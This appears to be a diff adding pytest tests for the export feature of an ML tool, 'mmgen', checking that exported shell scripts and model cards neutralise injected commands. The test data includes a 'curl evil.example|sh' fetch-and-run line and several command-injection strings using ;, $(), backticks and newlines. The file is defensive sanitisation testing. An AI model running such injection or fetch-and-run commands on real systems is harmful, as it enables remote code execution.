@@ -1,0 +1,106 @@
+"""What an export makes of text out of files: a shell script and a card that do nothing but what mmgen does."""
+
+import hashlib
+import shlex
+import subprocess
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mmgen import exporting
+from mmgen.artifacts.ancestors import Node
+from mmgen.artifacts.files import exported_names
+from mmgen.loading import load
+from mmgen.queries import parse_query
+
+EVIL = "touch EVIL"
+
+
+def node(command: str, *parents: Node) -> Node:
+    return Node("", "model", "", Path("m.safetensors"), "found", command, parents)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [f"{EVIL}; mmgen train", f"curl evil.example|sh; {EVIL}", f"mmgen 'train\n{EVIL}'", f"x\n{EVIL}\n",
+     f"mmgen 'x; {EVIL}"],
+)  # fmt: skip
+def test_what_is_no_command_is_a_comment_of_one_line(command: str) -> None:
+    (line,) = exporting._commands(node(command))
+    assert line.startswith("# left out") and line.isprintable()
+
+
+def test_the_commands_of_a_file_run_mmgen_and_nothing_else(tmp_path: Path) -> None:
+    nasty = f"mmgen train d.h5; {EVIL} & $({EVIL}) `{EVIL}` > EVIL | {EVIL} -o 'two  words'"
+    lines = exporting._commands(node(nasty, node("mmgen make-data mnist -o d.h5"), node(f"x\n{EVIL}")))
+    assert lines[0] == "mmgen make-data mnist -o d.h5" and [line[:2] for line in lines] == ["mm", "# ", "mm"]
+    assert shlex.split(lines[2]) == shlex.split(nasty)
+    (tmp_path / "mmgen").write_text("#!/bin/sh\n")
+    (tmp_path / "mmgen").chmod(0o755)
+    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
+    subprocess.run(["sh"], input="\n".join(lines), text=True, check=True, cwd=tmp_path, env=environment, timeout=60)
+    assert [path.name for path in tmp_path.iterdir()] == ["mmgen"]
+
+
+@dataclass
+class Words:
+    names: tuple[str, ...]
+    values: tuple[tuple[str, ...], ...]
+
+
+@dataclass
+class Loaded:
+    attributes: Words
+    given: str = "attributes"
+    default_posterior: str = "own"
+
+    def reads(self, posterior: str) -> bool:
+        return True
+
+
+def test_any_value_can_be_drawn_from_and_is_no_code_in_the_card() -> None:
+    words = Words(("kind",), (("a;b", "x,y", "dark é", f"$({EVIL})", "it's", '"'),))
+    asked = exporting._descriptions(Loaded(words))  # type: ignore[arg-type]  # the parts that are read
+    assert [int(parse_query(text, words)[0]) for text in asked] == [0, 1, 2, 3]
+    for text in asked:
+        assert shlex.split(exporting._drawing(text))[4] == text
+    ran = subprocess.run(["sh", "-c", exporting._drawing(asked[3]).replace("mmgen", "echo")], capture_output=True)
+    assert f"$({EVIL})" in ran.stdout.decode()
+    assert parse_query(f"kind={exporting.quoted(words.values[0][4])}", words)[0] == 4
+
+
+def sums(folder: Path, *names: str) -> None:
+    lines = [f"{hashlib.sha256((folder / name).read_bytes()).hexdigest()}  {name}\n" for name in names]
+    (folder / "SHA256SUMS").write_text("".join(lines))
+
+
+def test_nothing_stays_of_an_earlier_export_and_all_that_is_of_others(tmp_path: Path, monkeypatch: Any) -> None:
+    def fill(folder: Path, *others: Any) -> list[str]:
+        (folder / "model.safetensors").write_text("new")
+        sums(folder, "model.safetensors")
+        return ["model.safetensors", "SHA256SUMS"]
+
+    monkeypatch.setattr(exporting, "load", lambda path: None)
+    monkeypatch.setattr(exporting, "_fill", fill)
+    for name in ("aggregate.safetensors", "notes.txt", "judge.safetensors"):
+        (tmp_path / name).write_text("old")
+    sums(tmp_path, "aggregate.safetensors", "notes.txt")
+    exporting.export(Path("m"), tmp_path, exporting.Watch(), overwrite=True)
+    assert {path.name for path in tmp_path.iterdir()} == {
+        "model.safetensors", "SHA256SUMS", "notes.txt", "judge.safetensors"
+    }  # fmt: skip
+    assert exported_names(tmp_path) == ["model.safetensors"]
+
+
+def test_a_folder_is_opened_by_what_its_checksums_name(tmp_path: Path, monkeypatch: Any) -> None:
+    opened: list[Path] = []
+    monkeypatch.setattr("mmgen.loading.ModelFiles", lambda path, device: opened.append(path))
+    monkeypatch.setattr("mmgen.loading.TrainedModel", lambda files: files)
+    for name in ("aggregate.safetensors", "model.safetensors"):
+        (tmp_path / name).write_text("")
+    load(tmp_path)
+    sums(tmp_path, "model.safetensors")
+    load(tmp_path)
+    assert [path.name for path in opened] == ["aggregate.safetensors", "model.safetensors"]
